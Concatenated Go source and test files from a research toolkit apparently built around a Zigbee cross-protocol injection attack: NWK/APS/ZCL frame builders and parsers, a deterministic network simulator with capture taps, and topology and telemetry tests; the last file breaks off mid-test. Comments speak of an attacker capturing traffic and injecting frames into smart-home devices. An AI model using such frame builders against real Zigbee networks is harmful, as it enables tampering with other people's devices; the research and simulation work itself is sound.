	attr := make([]byte, 0, 5)
	attr = binary.LittleEndian.AppendUint16(attr, 0x0000) // MeasuredValue
	attr = append(attr, ZCLTypeInt16)
	attr = binary.LittleEndian.AppendUint16(attr, uint16(centiCelsius))
	zcl := &ZCLFrame{
		Type:    ZCLProfileWide,
		Seq:     zclSeq,
		Command: ZCLCmdReportAttributes,
		Payload: attr,
	}
	payload, err := zcl.Encode()
	if err != nil {
		return nil, err
	}
	return buildClusterFrame(nwkSeq, apsCounter, dest, src, ClusterTemperature, payload)
}

func buildClusterFrame(nwkSeq, apsCounter uint8, dest, src uint16, cluster uint16, zcl []byte) ([]byte, error) {
	return BuildZigbeeDataFrame(nwkSeq, apsCounter, dest, src, cluster, zcl)
}

// ParseTemperatureReport extracts the centi-degree reading from a
// temperature attribute report built by BuildTemperatureReport.
func ParseTemperatureReport(zcl *ZCLFrame) (int16, error) {
	if zcl == nil || zcl.Command != ZCLCmdReportAttributes {
		return 0, fmt.Errorf("zigbee: not an attribute report")
	}
	if len(zcl.Payload) != 5 || zcl.Payload[2] != ZCLTypeInt16 {
		return 0, fmt.Errorf("zigbee: unexpected report payload % x", zcl.Payload)
	}
	if binary.LittleEndian.Uint16(zcl.Payload[0:2]) != 0x0000 {
		return 0, fmt.Errorf("zigbee: not the MeasuredValue attribute")
	}
	return int16(binary.LittleEndian.Uint16(zcl.Payload[3:5])), nil
}
