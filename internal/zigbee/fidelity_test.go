package zigbee

import (
	"testing"

	"wazabee/internal/radio"
)

// TestSimulationSetFidelity checks the calibrated victim-path tiers: at
// a healthy SNR the coordinator records every reading exactly as the IQ
// path does, the attacker's capture stays a real waveform, and IQ can be
// restored.
func TestSimulationSetFidelity(t *testing.T) {
	for _, fid := range []radio.Fidelity{radio.FidelitySymbol, radio.FidelityFrame} {
		sim, err := NewSimulation(1, 4, 25)
		if err != nil {
			t.Fatal(err)
		}
		if err := sim.SetFidelity(fid); err != nil {
			t.Fatal(err)
		}
		const periods = 3
		for i := 0; i < periods; i++ {
			sig, err := sim.Step(DefaultChannel)
			if err != nil {
				t.Fatal(err)
			}
			if len(sig) == 0 {
				t.Fatalf("%v: attacker capture empty", fid)
			}
		}
		if got := len(sim.Coordinator.Readings); got != periods {
			t.Errorf("%v: coordinator recorded %d readings, want %d", fid, got, periods)
		}
		// Back to IQ: the waveform path keeps working.
		if err := sim.SetFidelity(radio.FidelityIQ); err != nil {
			t.Fatal(err)
		}
		if _, err := sim.Step(DefaultChannel); err != nil {
			t.Fatal(err)
		}
		if got := len(sim.Coordinator.Readings); got != periods+1 {
			t.Errorf("IQ after %v: coordinator recorded %d readings, want %d", fid, got, periods+1)
		}
	}
}

// TestSimulationFidelityDeterministic pins the victim-path seed
// discipline: two same-seed simulations on a calibrated tier record
// identical reading sequences.
func TestSimulationFidelityDeterministic(t *testing.T) {
	run := func() []Reading {
		sim, err := NewSimulation(7, 4, 3) // mid-waterfall: losses occur
		if err != nil {
			t.Fatal(err)
		}
		if err := sim.SetFidelity(radio.FidelitySymbol); err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 40; i++ {
			if _, err := sim.Step(DefaultChannel); err != nil {
				t.Fatal(err)
			}
		}
		return sim.Coordinator.Readings
	}
	a, b := run(), run()
	if len(a) != len(b) {
		t.Fatalf("reading counts diverge: %d vs %d", len(a), len(b))
	}
	if len(a) == len(b) && len(a) == 40 {
		t.Log("no losses at 3 dB; determinism still checked on values")
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("reading %d diverges: %+v vs %+v", i, a[i], b[i])
		}
	}
}
