package zigbee

// Zigbee network (NWK) and application support (APS) layer framing, the
// layers the Zigbee specification defines above IEEE 802.15.4 (section
// III-C of the paper). The attack itself operates at the PHY/MAC layer,
// but a usable Zigbee toolkit must parse what it sniffs and build what
// it injects at these layers too — the ZCL payloads of real smart-home
// traffic ride inside APS inside NWK.

import (
	"encoding/binary"
	"fmt"
)

// NWKFrameType distinguishes data from NWK command frames.
type NWKFrameType uint8

const (
	NWKData    NWKFrameType = 0
	NWKCommand NWKFrameType = 1
)

// nwkProtocolVersion is the Zigbee PRO protocol version.
const nwkProtocolVersion = 2

// NWKFrame is a network-layer frame.
type NWKFrame struct {
	Type NWKFrameType
	// DiscoverRoute enables route discovery on forwarding.
	DiscoverRoute bool
	// Security marks NWK-layer encryption (carried, not applied here;
	// link-layer CCM* lives in SecurityContext).
	Security bool

	DestAddr uint16
	SrcAddr  uint16
	// Radius bounds forwarding hops.
	Radius uint8
	// Seq is the NWK sequence number.
	Seq uint8

	// DestIEEE and SrcIEEE optionally carry 64-bit addresses.
	DestIEEE, SrcIEEE *uint64

	Payload []byte
}

// Encode serialises the NWK frame.
func (f *NWKFrame) Encode() ([]byte, error) {
	if f.Type > NWKCommand {
		return nil, fmt.Errorf("zigbee: invalid NWK frame type %d", f.Type)
	}
	fcf := uint16(f.Type) | nwkProtocolVersion<<2
	if f.DiscoverRoute {
		fcf |= 1 << 6
	}
	if f.Security {
		fcf |= 1 << 9
	}
	if f.DestIEEE != nil {
		fcf |= 1 << 11
	}
	if f.SrcIEEE != nil {
		fcf |= 1 << 12
	}

	out := make([]byte, 0, 8+len(f.Payload))
	out = binary.LittleEndian.AppendUint16(out, fcf)
	out = binary.LittleEndian.AppendUint16(out, f.DestAddr)
	out = binary.LittleEndian.AppendUint16(out, f.SrcAddr)
	out = append(out, f.Radius, f.Seq)
	if f.DestIEEE != nil {
		out = binary.LittleEndian.AppendUint64(out, *f.DestIEEE)
	}
	if f.SrcIEEE != nil {
		out = binary.LittleEndian.AppendUint64(out, *f.SrcIEEE)
	}
	return append(out, f.Payload...), nil
}

// ParseNWKFrame decodes a network-layer frame.
func ParseNWKFrame(data []byte) (*NWKFrame, error) {
	if len(data) < 8 {
		return nil, fmt.Errorf("zigbee: NWK frame too short (%d bytes)", len(data))
	}
	fcf := binary.LittleEndian.Uint16(data[0:2])
	if v := (fcf >> 2) & 0xf; v != nwkProtocolVersion {
		return nil, fmt.Errorf("zigbee: unsupported NWK protocol version %d", v)
	}
	f := &NWKFrame{
		Type:          NWKFrameType(fcf & 0x3),
		DiscoverRoute: fcf&(1<<6) != 0,
		Security:      fcf&(1<<9) != 0,
		DestAddr:      binary.LittleEndian.Uint16(data[2:4]),
		SrcAddr:       binary.LittleEndian.Uint16(data[4:6]),
		Radius:        data[6],
		Seq:           data[7],
	}
	if f.Type > NWKCommand {
		return nil, fmt.Errorf("zigbee: invalid NWK frame type %d", f.Type)
	}
	off := 8
	if fcf&(1<<11) != 0 {
		if len(data) < off+8 {
			return nil, fmt.Errorf("zigbee: truncated destination IEEE address")
		}
		v := binary.LittleEndian.Uint64(data[off:])
		f.DestIEEE = &v
		off += 8
	}
	if fcf&(1<<12) != 0 {
		if len(data) < off+8 {
			return nil, fmt.Errorf("zigbee: truncated source IEEE address")
		}
		v := binary.LittleEndian.Uint64(data[off:])
		f.SrcIEEE = &v
		off += 8
	}
	f.Payload = append([]byte{}, data[off:]...)
	return f, nil
}

// APSFrameType distinguishes APS data, command and acknowledgement.
type APSFrameType uint8

const (
	APSData    APSFrameType = 0
	APSCommand APSFrameType = 1
	APSAck     APSFrameType = 2
)

// APSFrame is an application-support-layer frame (unicast endpoint
// delivery mode; group addressing is out of scope for the scenarios).
type APSFrame struct {
	Type APSFrameType
	// AckRequest solicits an APS-level acknowledgement.
	AckRequest bool

	DestEndpoint uint8
	ClusterID    uint16
	ProfileID    uint16
	SrcEndpoint  uint8
	// Counter deduplicates APS transmissions.
	Counter uint8

	Payload []byte
}

// Encode serialises the APS frame.
func (f *APSFrame) Encode() ([]byte, error) {
	if f.Type > APSAck {
		return nil, fmt.Errorf("zigbee: invalid APS frame type %d", f.Type)
	}
	fcf := uint8(f.Type) // delivery mode unicast = 00 in bits 2-3
	if f.AckRequest {
		fcf |= 1 << 6
	}
	out := make([]byte, 0, 8+len(f.Payload))
	out = append(out, fcf, f.DestEndpoint)
	out = binary.LittleEndian.AppendUint16(out, f.ClusterID)
	out = binary.LittleEndian.AppendUint16(out, f.ProfileID)
	out = append(out, f.SrcEndpoint, f.Counter)
	return append(out, f.Payload...), nil
}

// ParseAPSFrame decodes an APS frame.
func ParseAPSFrame(data []byte) (*APSFrame, error) {
	if len(data) < 8 {
		return nil, fmt.Errorf("zigbee: APS frame too short (%d bytes)", len(data))
	}
	f := &APSFrame{
		Type:         APSFrameType(data[0] & 0x3),
		AckRequest:   data[0]&(1<<6) != 0,
		DestEndpoint: data[1],
		ClusterID:    binary.LittleEndian.Uint16(data[2:4]),
		ProfileID:    binary.LittleEndian.Uint16(data[4:6]),
		SrcEndpoint:  data[6],
		Counter:      data[7],
		Payload:      append([]byte{}, data[8:]...),
	}
	if f.Type > APSAck {
		return nil, fmt.Errorf("zigbee: invalid APS frame type %d", f.Type)
	}
	return f, nil
}

// Common ZCL/HA identifiers used by examples and tests.
const (
	// ProfileHomeAutomation is the classic HA profile.
	ProfileHomeAutomation = 0x0104
	// ClusterOnOff is the on/off cluster of lights and plugs, the kind
	// of device the "IoT goes nuclear" chain reaction [4] targeted.
	ClusterOnOff = 0x0006
	// ClusterTemperature is the temperature measurement cluster.
	ClusterTemperature = 0x0402
)

// BuildZigbeeDataFrame stacks APS inside NWK and returns the NWK-encoded
// bytes, ready to be carried as an 802.15.4 MAC payload.
func BuildZigbeeDataFrame(nwkSeq, apsCounter uint8, dest, src uint16, cluster uint16, payload []byte) ([]byte, error) {
	aps := &APSFrame{
		Type:         APSData,
		DestEndpoint: 1,
		ClusterID:    cluster,
		ProfileID:    ProfileHomeAutomation,
		SrcEndpoint:  1,
		Counter:      apsCounter,
		Payload:      payload,
	}
	apsBytes, err := aps.Encode()
	if err != nil {
		return nil, err
	}
	nwk := &NWKFrame{
		Type:     NWKData,
		DestAddr: dest,
		SrcAddr:  src,
		Radius:   30,
		Seq:      nwkSeq,
		Payload:  apsBytes,
	}
	return nwk.Encode()
}

// ParseZigbeeDataFrame unstacks NWK then APS.
func ParseZigbeeDataFrame(data []byte) (*NWKFrame, *APSFrame, error) {
	nwk, err := ParseNWKFrame(data)
	if err != nil {
		return nil, nil, err
	}
	if nwk.Type != NWKData {
		return nwk, nil, fmt.Errorf("zigbee: not a NWK data frame")
	}
	aps, err := ParseAPSFrame(nwk.Payload)
	if err != nil {
		return nwk, nil, err
	}
	return nwk, aps, nil
}
