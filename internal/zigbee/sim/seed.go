package sim

import "math/rand"

// The simulator follows the Monte-Carlo runner's seed discipline
// (internal/experiment/runner): structured coordinates pass through
// SplitMix64 rounds so adjacent nodes, frames and run seeds land on
// unrelated streams, and no draw ever depends on global event
// interleaving — the property that makes capture sequences bit-identical
// at any event-batch size.

// splitmix64 is the SplitMix64 finaliser (Steele et al., "Fast
// splittable pseudorandom number generators").
func splitmix64(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// nodeSeed derives the RNG seed of one node's private stream from the
// run seed and the node's index.
func nodeSeed(seed int64, nodeID int) int64 {
	h := splitmix64(uint64(seed))
	h = splitmix64(h ^ uint64(int64(nodeID))<<1 ^ 0x5a)
	return int64(h)
}

// deliverySeed derives the erasure draw of one (frame, receiver) pair.
// The frame sequence number is itself deterministic (assigned in event
// order, which is total), so the draw is reproducible without being
// correlated across receivers.
func deliverySeed(seed int64, frameSeq uint64, rxID int) uint64 {
	h := splitmix64(uint64(seed) ^ 0xd1ce)
	h = splitmix64(h ^ frameSeq)
	h = splitmix64(h ^ uint64(int64(rxID)))
	return h
}

// nodeRand builds a node's private random stream.
func nodeRand(seed int64, nodeID int) *rand.Rand {
	return rand.New(rand.NewSource(nodeSeed(seed, nodeID)))
}
