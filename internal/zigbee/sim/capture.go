package sim

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"time"
)

// FrameCapture is one transmission as an ideal channel probe sees it:
// every frame put on the air on the channel, flagged when it overlapped
// another transmission. This is the simulator's observable surface — the
// determinism contract promises a byte-identical capture sequence for a
// given (topology, config) at any event-batch size.
type FrameCapture struct {
	// At is the virtual time the transmission started.
	At time.Duration
	// Channel is the 802.15.4 channel the frame went out on.
	Channel int
	// Seq is the global capture sequence number, dense and strictly
	// increasing across all channels.
	Seq uint64
	// Src is the simulator index of the transmitting node.
	Src int
	// Kind labels the MAC frame type ("beacon", "data", "ack", ...).
	Kind string
	// Collided reports that the transmission overlapped another in one
	// of its collision domains; collided frames are never delivered.
	Collided bool
	// PSDU is the encoded MAC frame.
	PSDU []byte
}

// Tap registers a synchronous capture callback for one channel. Taps run
// inline on the event loop — keep them fast and do not call back into
// the network. Register before Run; taps are not synchronised.
func (nw *Network) Tap(channel int, fn func(FrameCapture)) {
	nw.taps[channel] = append(nw.taps[channel], fn)
}

// Observer is an asynchronous capture consumer: a buffered channel fed
// by the event loop. Sends block when the buffer fills, pausing virtual
// time until the consumer drains — deliberately, so a slow consumer
// produces backpressure (and eventually a degraded health probe) instead
// of silent loss.
type Observer struct {
	ch     chan FrameCapture
	closed bool
}

// C returns the capture stream. It is closed by CloseObservers.
func (o *Observer) C() <-chan FrameCapture { return o.ch }

// Observe registers a buffered observer on one channel. Register before
// Run; the returned channel is safe to consume from other goroutines
// while the event loop executes.
func (nw *Network) Observe(channel, buffer int) *Observer {
	if buffer < 1 {
		buffer = 1
	}
	o := &Observer{ch: make(chan FrameCapture, buffer)}
	nw.observers[channel] = append(nw.observers[channel], o)
	return o
}

// CloseObservers closes every observer channel. Call after the final
// Run, from the driving goroutine.
func (nw *Network) CloseObservers() {
	for _, obsList := range nw.observers {
		for _, o := range obsList {
			if !o.closed {
				o.closed = true
				close(o.ch)
			}
		}
	}
}

// publishCapture fans a finished transmission out to the channel's taps
// and observers. Observer sends may block on a full buffer; the wall
// clock around the send is stamped so the health probe can tell a
// stalled consumer from an idle loop.
func (nw *Network) publishCapture(tx *transmission) {
	taps := nw.taps[tx.channel]
	observers := nw.observers[tx.channel]
	if len(taps) == 0 && len(observers) == 0 {
		return
	}
	fc := FrameCapture{
		At:       tx.start,
		Channel:  tx.channel,
		Seq:      tx.seq,
		Src:      tx.src,
		Kind:     tx.kind.String(),
		Collided: tx.collided,
		PSDU:     tx.psdu,
	}
	for _, fn := range taps {
		fn(fc)
	}
	for _, o := range observers {
		select {
		case o.ch <- fc:
		default:
			nw.sendBlockedSince.Store(time.Now().UnixNano())
			o.ch <- fc
			nw.sendBlockedSince.Store(0)
		}
	}
}

// DigestRecorder folds a capture stream into a SHA-256 digest — the
// oracle behind the determinism tests and `wazabeesim -digest`. Two runs
// are byte-identical iff their digests match.
type DigestRecorder struct {
	h      [32]byte
	hasher interface {
		Write(p []byte) (int, error)
		Sum(b []byte) []byte
	}
	frames uint64
	buf    []byte
}

// NewDigestRecorder returns an empty recorder.
func NewDigestRecorder() *DigestRecorder {
	return &DigestRecorder{hasher: sha256.New()}
}

// Record folds one capture into the digest using a canonical
// little-endian encoding of every observable field.
func (d *DigestRecorder) Record(fc FrameCapture) {
	d.buf = d.buf[:0]
	d.buf = binary.LittleEndian.AppendUint64(d.buf, uint64(fc.At))
	d.buf = binary.LittleEndian.AppendUint32(d.buf, uint32(fc.Channel))
	d.buf = binary.LittleEndian.AppendUint64(d.buf, fc.Seq)
	d.buf = binary.LittleEndian.AppendUint32(d.buf, uint32(fc.Src))
	var collided byte
	if fc.Collided {
		collided = 1
	}
	d.buf = append(d.buf, collided)
	d.buf = binary.LittleEndian.AppendUint32(d.buf, uint32(len(fc.PSDU)))
	d.buf = append(d.buf, fc.PSDU...)
	d.hasher.Write(d.buf)
	d.frames++
}

// Frames returns how many captures were folded in.
func (d *DigestRecorder) Frames() uint64 { return d.frames }

// Sum returns the hex digest of everything recorded so far.
func (d *DigestRecorder) Sum() string {
	return hex.EncodeToString(d.hasher.Sum(nil))
}
