package sim

import "testing"

func TestStarTopology(t *testing.T) {
	topo := Star(10)
	if err := topo.Validate(); err != nil {
		t.Fatal(err)
	}
	c, r, e := topo.Counts()
	if c != 1 || r != 0 || e != 10 {
		t.Fatalf("Star(10) counts = (%d,%d,%d), want (1,0,10)", c, r, e)
	}
	for i, n := range topo.Nodes[1:] {
		if n.Parent != 0 {
			t.Fatalf("star child %d parent = %d, want 0", i+1, n.Parent)
		}
	}
}

func TestTreeTopologyGolden(t *testing.T) {
	topo := Tree(3, 10)
	if err := topo.Validate(); err != nil {
		t.Fatal(err)
	}
	c, r, e := topo.Counts()
	if c != 1 || r != 110 || e != 1000 {
		t.Fatalf("Tree(3,10) counts = (%d,%d,%d), want (1,110,1000)", c, r, e)
	}
	if len(topo.Nodes) != 1111 {
		t.Fatalf("Tree(3,10) has %d nodes, want 1111", len(topo.Nodes))
	}
	// Golden structure spot checks: node 1..10 are level-1 routers under
	// the root, node 11 is the first level-2 router under node 1, node
	// 111 is the first end device under node 11.
	for _, g := range []struct {
		idx    int
		role   Role
		parent int
	}{
		{0, RoleCoordinator, -1},
		{1, RoleRouter, 0},
		{10, RoleRouter, 0},
		{11, RoleRouter, 1},
		{110, RoleRouter, 10},
		{111, RoleEndDevice, 11},
		{1110, RoleEndDevice, 110},
	} {
		n := topo.Nodes[g.idx]
		if n.Role != g.role || n.Parent != g.parent {
			t.Fatalf("node %d = {%v parent %d}, want {%v parent %d}", g.idx, n.Role, n.Parent, g.role, g.parent)
		}
	}
}

func TestTreeDegenerate(t *testing.T) {
	topo := Tree(0, 0) // clamps to depth 1, fanout 1
	if err := topo.Validate(); err != nil {
		t.Fatal(err)
	}
	if len(topo.Nodes) != 2 {
		t.Fatalf("Tree(0,0) has %d nodes, want 2", len(topo.Nodes))
	}
}

func TestRandomTopologyDeterministic(t *testing.T) {
	a := Random(500, 7)
	b := Random(500, 7)
	if len(a.Nodes) != len(b.Nodes) {
		t.Fatalf("same-seed sizes differ: %d vs %d", len(a.Nodes), len(b.Nodes))
	}
	for i := range a.Nodes {
		if a.Nodes[i] != b.Nodes[i] {
			t.Fatalf("same-seed node %d differs: %+v vs %+v", i, a.Nodes[i], b.Nodes[i])
		}
	}
	c := Random(500, 8)
	same := true
	for i := range a.Nodes {
		if a.Nodes[i] != c.Nodes[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatal("seeds 7 and 8 produced identical topologies")
	}
}

func TestRandomTopologyValid(t *testing.T) {
	for _, n := range []int{2, 50, 401, 1200} {
		topo := Random(n, 42)
		if err := topo.Validate(); err != nil {
			t.Fatalf("Random(%d, 42): %v", n, err)
		}
		if len(topo.Nodes) != n {
			t.Fatalf("Random(%d) has %d nodes", n, len(topo.Nodes))
		}
	}
	// Multi-PAN split: 1200 nodes → 3 coordinators.
	c, _, _ := Random(1200, 42).Counts()
	if c != 3 {
		t.Fatalf("Random(1200) has %d coordinators, want 3", c)
	}
}

func TestValidateRejectsBadTopologies(t *testing.T) {
	cases := map[string]Topology{
		"empty": {},
		"forward parent": {Nodes: []NodeSpec{
			{Role: RoleCoordinator, Parent: -1, Channel: 14, PAN: 1},
			{Role: RoleEndDevice, Parent: 2, Channel: 14, PAN: 1},
			{Role: RoleRouter, Parent: 0, Channel: 14, PAN: 1},
		}},
		"end-device parent": {Nodes: []NodeSpec{
			{Role: RoleCoordinator, Parent: -1, Channel: 14, PAN: 1},
			{Role: RoleEndDevice, Parent: 0, Channel: 14, PAN: 1},
			{Role: RoleEndDevice, Parent: 1, Channel: 14, PAN: 1},
		}},
		"cross-channel parent": {Nodes: []NodeSpec{
			{Role: RoleCoordinator, Parent: -1, Channel: 14, PAN: 1},
			{Role: RoleEndDevice, Parent: 0, Channel: 15, PAN: 1},
		}},
		"illegal channel": {Nodes: []NodeSpec{
			{Role: RoleCoordinator, Parent: -1, Channel: 27, PAN: 1},
		}},
		"parented coordinator": {Nodes: []NodeSpec{
			{Role: RoleCoordinator, Parent: -1, Channel: 14, PAN: 1},
			{Role: RoleCoordinator, Parent: 0, Channel: 14, PAN: 1},
		}},
	}
	for name, topo := range cases {
		if err := topo.Validate(); err == nil {
			t.Errorf("%s: Validate accepted an invalid topology", name)
		}
	}
}
