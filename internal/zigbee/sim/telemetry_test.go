package sim

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"wazabee/internal/obs"
)

// traceRun simulates topo with the observatory and trace enabled,
// advancing the clock in batchSize steps (0 = one shot), and returns the
// finished network plus the exact trace bytes.
func traceRun(t *testing.T, topo Topology, seed int64, virtualFor, batchSize time.Duration) (*Network, []byte) {
	t.Helper()
	var buf bytes.Buffer
	nw, err := New(topo, Config{Seed: seed, Registry: obs.NewRegistry(), TraceWriter: &buf})
	if err != nil {
		t.Fatal(err)
	}
	if batchSize <= 0 {
		nw.Run(virtualFor)
	} else {
		for at := batchSize; at < virtualFor; at += batchSize {
			nw.Run(at)
		}
		nw.Run(virtualFor)
	}
	if err := nw.CloseTrace(); err != nil {
		t.Fatalf("CloseTrace: %v", err)
	}
	return nw, buf.Bytes()
}

// TestTelemetryDoesNotPerturbRun pins the observatory's core promise:
// enabling telemetry (and the trace) must not change the simulated run.
// Same seed, instrumented and uninstrumented, identical capture digests.
func TestTelemetryDoesNotPerturbRun(t *testing.T) {
	plain, nPlain := digestRun(t, Tree(2, 5), 42, 30*time.Second, 0)

	var buf bytes.Buffer
	nw, err := New(Tree(2, 5), Config{Seed: 42, Registry: obs.NewRegistry(), TraceWriter: &buf})
	if err != nil {
		t.Fatal(err)
	}
	rec := NewDigestRecorder()
	nw.Tap(DefaultChannel, rec.Record)
	nw.Run(30 * time.Second)
	if err := nw.CloseTrace(); err != nil {
		t.Fatal(err)
	}
	if rec.Sum() != plain || rec.Frames() != nPlain {
		t.Fatalf("instrumented run diverged: %s (%d frames) vs plain %s (%d frames)",
			rec.Sum(), rec.Frames(), plain, nPlain)
	}
}

// TestTraceByteIdentical pins the trace exporter's determinism contract:
// same seed, same flags — byte-identical trace files, however the run is
// sliced into batches.
func TestTraceByteIdentical(t *testing.T) {
	_, ref := traceRun(t, Tree(2, 5), 42, 20*time.Second, 0)
	if len(ref) == 0 {
		t.Fatal("empty trace")
	}
	for _, batch := range []time.Duration{time.Millisecond, 137 * time.Millisecond, time.Second} {
		_, got := traceRun(t, Tree(2, 5), 42, 20*time.Second, batch)
		if !bytes.Equal(ref, got) {
			t.Fatalf("trace bytes differ between one-shot and batch %v (%d vs %d bytes)",
				batch, len(ref), len(got))
		}
	}
}

// TestTraceWellFormed parses the exported trace as Chrome trace-event
// JSON and spot-checks its structure: metadata names every node track,
// every event carries a phase, and frame slices land on MAC tracks.
func TestTraceWellFormed(t *testing.T) {
	topo := Tree(2, 3)
	// A noisy 2 dB link (deep in the erasure regime) guarantees erasure
	// markers in the trace.
	var buf bytes.Buffer
	nw, err := New(topo, Config{Seed: 7, SNRdB: 2, Registry: obs.NewRegistry(), TraceWriter: &buf})
	if err != nil {
		t.Fatal(err)
	}
	nw.Run(15 * time.Second)
	if err := nw.CloseTrace(); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	stats := nw.Stats()
	var doc struct {
		DisplayTimeUnit string `json:"displayTimeUnit"`
		TraceEvents     []struct {
			Name string         `json:"name"`
			Ph   string         `json:"ph"`
			Pid  int            `json:"pid"`
			Tid  int            `json:"tid"`
			Args map[string]any `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatalf("trace is not valid JSON: %v", err)
	}
	if doc.DisplayTimeUnit != "ms" {
		t.Fatalf("displayTimeUnit = %q, want ms", doc.DisplayTimeUnit)
	}
	metas, slices, instants := 0, 0, 0
	for _, ev := range doc.TraceEvents {
		switch ev.Ph {
		case "M":
			metas++
		case "X":
			slices++
		case "i":
			instants++
		default:
			t.Fatalf("unexpected phase %q in event %+v", ev.Ph, ev)
		}
	}
	// process_name + two thread_name entries per node.
	if want := 1 + 2*len(topo.Nodes); metas != want {
		t.Fatalf("got %d metadata events, want %d", metas, want)
	}
	if slices == 0 {
		t.Fatal("trace has no slices")
	}
	// One marker per collided transmission, erasure and deaf miss.
	if want := stats.Collisions + stats.Erasures + stats.DeafMisses; uint64(instants) != want {
		t.Fatalf("got %d instant markers, want %d (collisions %d + erasures %d + deaf %d)",
			instants, want, stats.Collisions, stats.Erasures, stats.DeafMisses)
	}
	if instants == 0 {
		t.Fatal("trace has no instant markers (erasures expected at 2 dB)")
	}
}

// TestEnergyConservation pins the accountant's invariant: every node's
// radio-state durations sum exactly — not approximately — to the virtual
// elapsed time, across batch schedules.
func TestEnergyConservation(t *testing.T) {
	for _, batch := range []time.Duration{0, 137 * time.Millisecond} {
		nw, _ := traceRun(t, Tree(2, 5), 42, 20*time.Second, batch)
		elapsed := nw.Now()
		for _, ns := range nw.NodeStats() {
			var sum time.Duration
			for _, d := range ns.RadioTime {
				if d < 0 {
					t.Fatalf("node %d: negative %v duration", ns.ID, d)
				}
				sum += d
			}
			if sum != elapsed {
				t.Fatalf("node %d (batch %v): radio durations sum to %v, elapsed %v (off by %v)",
					ns.ID, batch, sum, elapsed, sum-elapsed)
			}
			if ns.EnergyMicrojoules <= 0 {
				t.Fatalf("node %d: energy %v µJ, want > 0", ns.ID, ns.EnergyMicrojoules)
			}
		}
	}
}

// TestEnergyProfilesDiffer guards the per-chip table: the same run costs
// different energy on different silicon, and an unknown chip errors.
func TestEnergyProfilesDiffer(t *testing.T) {
	run := func(chip string) float64 {
		nw, err := New(Tree(1, 3), Config{Seed: 42, Registry: obs.NewRegistry(), Telemetry: true, Chip: chip})
		if err != nil {
			t.Fatal(err)
		}
		nw.Run(10 * time.Second)
		return nw.Snapshot().EnergyMicrojoules
	}
	cc, nrf := run("cc2652"), run("nrf52840")
	if cc <= 0 || nrf <= 0 {
		t.Fatalf("energy totals %v / %v, want > 0", cc, nrf)
	}
	if cc <= nrf {
		t.Fatalf("cc2652 (%v µJ) should cost more than nrf52840 (%v µJ) at these draw tables", cc, nrf)
	}
	if _, err := New(Tree(1, 3), Config{Telemetry: true, Chip: "esp32"}); err == nil {
		t.Fatal("unknown chip accepted")
	}
}

// TestNodeCounterReconciliation pins per-node accounting against the
// pre-existing global counters: the observatory is a refinement of the
// same events, so node sums must equal the network totals exactly.
func TestNodeCounterReconciliation(t *testing.T) {
	nw, _ := traceRun(t, Tree(2, 5), 42, 30*time.Second, time.Second)
	stats := nw.Stats()
	var tx, rx, coll, backoffs, ccaFail, retries, ackFail, erasures, deaf, readings, forwarded, joins uint64
	for _, ns := range nw.NodeStats() {
		tx += ns.Tx
		rx += ns.Rx
		coll += ns.Collisions
		backoffs += ns.Backoffs
		ccaFail += ns.CCAFailures
		retries += ns.Retries
		ackFail += ns.AckFailures
		erasures += ns.Erasures
		deaf += ns.DeafMisses
		readings += ns.Readings
		forwarded += ns.Forwarded
		joins += ns.Joins
	}
	check := func(name string, nodeSum, global uint64) {
		t.Helper()
		if nodeSum != global {
			t.Errorf("%s: node sum %d != global %d", name, nodeSum, global)
		}
	}
	check("tx/frames", tx, stats.Frames)
	check("collisions", coll, stats.Collisions)
	check("backoffs", backoffs, stats.Backoffs)
	check("cca failures", ccaFail, stats.CCAFailures)
	check("retries", retries, stats.Retries)
	check("ack failures", ackFail, stats.AckFailures)
	check("erasures", erasures, stats.Erasures)
	check("deaf misses", deaf, stats.DeafMisses)
	check("readings", readings, stats.Readings)
	check("forwarded", forwarded, stats.Forwarded)
	check("joins", joins, stats.Joins)
	if tx == 0 || backoffs == 0 || joins == 0 {
		t.Fatal("degenerate run: no traffic to reconcile")
	}
	// Link-level delivery must reconcile against node-level receives.
	var delivered uint64
	for _, ls := range nw.LinkStats() {
		delivered += ls.Delivered
	}
	if delivered != rx {
		t.Errorf("link delivered sum %d != node rx sum %d", delivered, rx)
	}
}

// TestJoinLatencyTracking checks the association telemetry: joined nodes
// carry a non-negative first-join latency within the run, coordinators
// join at zero, and unjoined nodes stay at -1.
func TestJoinLatencyTracking(t *testing.T) {
	nw, _ := traceRun(t, Tree(2, 5), 42, 30*time.Second, 0)
	for _, ns := range nw.NodeStats() {
		switch {
		case ns.Role == RoleCoordinator.String():
			if ns.JoinLatency != 0 {
				t.Fatalf("coordinator join latency %v, want 0", ns.JoinLatency)
			}
		case ns.Joined:
			if ns.JoinLatency <= 0 || ns.JoinLatency > nw.Now() {
				t.Fatalf("node %d: join latency %v outside (0, %v]", ns.ID, ns.JoinLatency, nw.Now())
			}
			if ns.Joins == 0 {
				t.Fatalf("node %d joined with zero join count", ns.ID)
			}
		default:
			if ns.JoinLatency != -1 {
				t.Fatalf("unjoined node %d: join latency %v, want -1", ns.ID, ns.JoinLatency)
			}
		}
	}
}

// TestPerNodeRegistryFamilies checks the registry surface: the
// wazabee_simnode_* and wazabee_simlink_* families carry the same totals
// the snapshot reports, and the heap gauges are published.
func TestPerNodeRegistryFamilies(t *testing.T) {
	reg := obs.NewRegistry()
	var buf bytes.Buffer
	nw, err := New(Tree(1, 4), Config{Seed: 42, Registry: reg, TraceWriter: &buf})
	if err != nil {
		t.Fatal(err)
	}
	nw.Run(20 * time.Second)
	if err := nw.CloseTrace(); err != nil {
		t.Fatal(err)
	}

	rr := httptest.NewRecorder()
	reg.ServeHTTP(rr, httptest.NewRequest("GET", "/metrics", nil))
	text := rr.Body.String()
	for _, want := range []string{
		`wazabee_simnode_tx_frames_total{node="0"}`,
		`wazabee_simnode_backoffs_total{node="1"}`,
		`wazabee_sim_energy_microjoules{node="0"}`,
		`wazabee_sim_radio_seconds{state="tx"}`,
		`wazabee_simlink_delivered_total{`,
		`wazabee_sim_heap_max_depth{driver="virtual"}`,
